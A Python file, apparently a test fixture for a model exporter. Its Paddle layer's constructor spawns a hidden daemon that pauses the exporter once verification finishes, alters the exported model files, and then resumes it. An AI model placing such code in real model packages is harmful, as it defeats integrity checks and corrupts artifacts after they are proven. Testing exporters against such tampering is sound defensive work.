"""A model whose code starts a process: it waits until all is proven, and then changes what will be sealed."""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path

import paddle
from paddle import nn

#: Nobody has to look for it: it ends by itself.
_SECONDS = 300


def _command() -> int:
    """The process of the command line: the outermost one above this."""
    process, found = os.getpid(), 0
    while process > 1:
        if b"exporter.cli" in Path(f"/proc/{process}/cmdline").read_bytes():
            found = process
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def _change_what_was_proven(command: int) -> None:
    """Stop the command while it happens, so that it does not depend on who is faster."""
    end = time.monotonic() + _SECONDS
    while time.monotonic() < end:
        for report in Path("artifacts").rglob("report.html"):
            os.kill(command, signal.SIGSTOP)
            for name in ("pir/model.pdiparams", "pir/model.json"):
                path = report.parent / name
                path.write_bytes(path.read_bytes()[:-1] + b"!")
            Path("changed").touch()
            os.kill(command, signal.SIGCONT)
            return
        time.sleep(0.001)


def _lurk() -> None:
    """A daemon: forked twice, in a session of its own."""
    command = _command()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with Path("lurking").open("a") as lurking:
                lurking.write(f"{os.getpid()}\n")
            _change_what_was_proven(command)
        os._exit(0)
    os.wait()


class Lurking(nn.Layer):
    def __init__(self) -> None:
        super().__init__()
        self.only = nn.Linear(4, 3)
        _lurk()

    def forward(self, x: paddle.Tensor) -> paddle.Tensor:
        return self.only(x)
